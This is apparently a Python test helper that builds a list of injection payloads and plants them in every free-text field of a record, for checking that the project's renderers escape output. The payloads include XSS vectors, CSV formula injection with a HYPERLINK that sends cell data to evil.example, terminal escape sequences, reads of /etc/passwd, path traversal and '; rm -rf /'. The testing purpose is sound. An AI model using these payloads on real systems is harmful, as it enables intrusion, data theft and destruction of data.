"""Strings that attack a reader, and a way to put them into every text of a record.

Each payload, where it runs, sets `window.ran` and asks the canary for its number. The list follows OWASP's filter
evasion and CSV injection pages, the findings of facts gathered for this project, and Typst's and Markdown's grammars.
"""

from __future__ import annotations

import dataclasses
import itertools
import typing
from collections.abc import Iterator
from typing import Any

RUN = "window.ran=(window.ran||0)+1"


def payloads(port: int) -> list[str]:
    """Return the attacks; those that reach out ask 127.0.0.1:`port`."""
    out = f"//127.0.0.1:{port}"
    return [
        f"<script>{RUN};new Image().src='{out}/1'</script>",
        f"</title></style></script></textarea></template><script>{RUN}</script>",
        f'"><img src="{out}/2" onerror="{RUN}">',
        f"'><img src=x onerror='{RUN}'>",
        f"<svg/onload={RUN}>",
        f"<svg><script>{RUN}</script></svg>",
        f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
        f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
        f"` onmouseover={RUN} `",
        f"javascript:{RUN}//",
        f" javascript:{RUN}//",
        f"java\tscript:{RUN}//",
        f"\x01javascript:{RUN}",
        f"data:text/html,<script>{RUN}</script>",
        f"vbscript:{RUN}",
        f'https://example.org/" onclick="{RUN}',
        f"https://example.org/'><script>{RUN}</script>",
        f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
        f'<iframe src="{out}/3"></iframe><object data="{out}/4"></object><embed src="{out}/5">',
        f'<link rel="stylesheet" href="{out}/6"><meta http-equiv="refresh" content="0;url={out}/7">',
        f'<base href="{out}/8/"><form action="{out}/9" id=f><input autofocus onfocus="{RUN}"></form>',
        f"<style>@import '{out}/10';*{{background:url({out}/11)}}</style>",
        f"<video src={out}/12 onerror={RUN}></video><audio src=x onerror={RUN}>",
        f"<details open ontoggle={RUN}><summary>x</summary></details>",
        f"<math><mtext></p><img src onerror={RUN}></mtext></math>",
        f"--><!--><script>{RUN}</script>",
        f"]]><script>{RUN}</script>",
        f"{{{{ ''.__class__ }}}}{{% for x in [1] %}}<script>{RUN}</script>{{% endfor %}}",
        f"${{{RUN}}}#{{{RUN}}}",
        f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
        f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;img src=x onerror={RUN}&#62;",
        f"\u2028</script><script>{RUN}</script>\u2029",
        f"[click](javascript:{RUN}) ![x]({out}/13) <javascript:{RUN}> [r]: javascript:{RUN}",
        f"```\n<script>{RUN}</script>\n```\n# x\n| a | b |\n|---|---|\n",
        f"[x](<data:text/html,<script>{RUN}</script>>)",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
        '=HYPERLINK("https://evil.example/?"&A1,"x")',
        '"=1+1',
        'x",=1+1,"y',
        "\u202egpj.exe\u202c\u2066x\u2069\u200f",
        "\x1b[2J\x1b]0;owned\x07\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
        "a\x00b\x07\x08\x7f\x9b31m",
        "\ud800 lone surrogate \udfff",
        '#(40+2) #read("/etc/hostname") #image("/etc/passwd") $ x $ = Heading',
        '#eval("40+2") @cite <label> *b* _i_ `raw` // comment',
        "\\u{1F525} \\ #pagebreak() #set page(width: 1pt)",
        "%s%n%x {0} {report.__class__} $(id) `id` ; rm -rf /",
        "../../../../etc/passwd",
        "a" * 900,
        "Ⅷ﷽ ͛ͣ͗z̸a̷l̶g̴o " * 12,
        "مشاهد متداولة לפי שעה 视频 🔥👩‍🚒 ภาพ",
        "",
    ]


def poison(record: Any, strings: Iterator[str]) -> Any:
    """Return `record` with every free text in it replaced by the next of `strings`; choices and numbers stay."""
    if isinstance(record, str):
        return next(strings)
    if isinstance(record, tuple | list):
        return type(record)(poison(part, strings) for part in record)
    if isinstance(record, dict):
        return {poison(k, strings) + f"#{i}": poison(v, strings) for i, (k, v) in enumerate(record.items())}
    if not dataclasses.is_dataclass(record):
        return record
    hints = typing.get_type_hints(type(record))
    changed = {}
    for field in dataclasses.fields(record):
        value = getattr(record, field.name)
        if field.name in {"not_before", "not_after"} or not _free(hints[field.name], value):
            continue
        changed[field.name] = poison(value, strings)
    return dataclasses.replace(record, **changed)


def _free(hint: Any, value: Any) -> bool:
    return not (isinstance(value, str) and typing.get_origin(hint) is typing.Literal)


def turned(strings: list[str], start: int) -> Iterator[str]:
    """Return the strings for ever, from the one at `start` on."""
    return itertools.islice(itertools.cycle(strings), start, None)


def everything(strings: list[str]) -> Iterator[str]:
    """Return all strings in one, for ever: every attack in every place at once."""
    return itertools.repeat(" ".join(strings))
